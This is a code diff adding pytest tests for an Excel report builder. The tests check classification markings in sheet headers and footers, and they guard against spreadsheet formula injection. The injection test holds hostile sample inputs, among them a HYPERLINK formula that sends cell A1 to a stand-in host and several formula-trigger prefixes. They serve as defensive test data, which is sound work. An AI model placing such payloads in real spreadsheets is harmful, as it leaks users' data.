@@ -75,3 +75,41 @@ def test_write_report_writes_both_atomically(run: dict[str, Any], tables: dict[s
     # plotly.js is about 4.8 MB; the run adds well under 1 MB
     assert files.html_bytes < 6_000_000
     load_workbook(files.xlsx)
+
+
+def test_every_sheet_prints_the_marking_top_and_bottom(run: dict[str, Any], tables: dict[str, Any]) -> None:
+    run["classification"] = "RESTRICTED & TEST"
+    wb = load_workbook(io.BytesIO(build_xlsx(run, tables)))
+    for ws in wb.worksheets:
+        for hf in (ws.oddHeader, ws.oddFooter, ws.evenHeader, ws.evenFooter):
+            assert hf.center.text == "RESTRICTED && TEST", ws.title  # "&&" prints one "&"
+        assert any(ws.cell(row=r, column=1).value == "RESTRICTED & TEST" for r in (1, 2)), ws.title
+
+
+def test_user_text_never_becomes_a_formula(run: dict[str, Any], tables: dict[str, Any]) -> None:
+    evil = '=HYPERLINK("http://x/?"&A1,"a")'
+    run["classification"] = "=1+1"
+    run["scenario_file"] = "+cmd.yaml"
+    run["plan"]["targets"][0]["customer"] = evil
+    tables["production"][0]["line"] = "@line"
+    tables["production"][1]["line"] = "-line"
+    tables["production"][2]["line"] = "\tline"
+    data = build_xlsx(run, tables)
+    wb = load_workbook(io.BytesIO(data))
+    found = {"=1+1": 0, evil: 0, "+cmd.yaml": 0, "@line": 0, "-line": 0, "\tline": 0}
+    for ws in wb.worksheets:
+        for row in ws.iter_rows():
+            for c in row:
+                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
+                if c.value in found:
+                    found[c.value] += 1
+                    assert c.data_type == "s" and c.quotePrefix, (ws.title, c.coordinate)
+    assert all(found.values()), found
+    assert b"<f>" not in _sheet_xml(data)
+
+
+def _sheet_xml(data: bytes) -> bytes:
+    import zipfile
+
+    with zipfile.ZipFile(io.BytesIO(data)) as z:
+        return b"".join(z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))
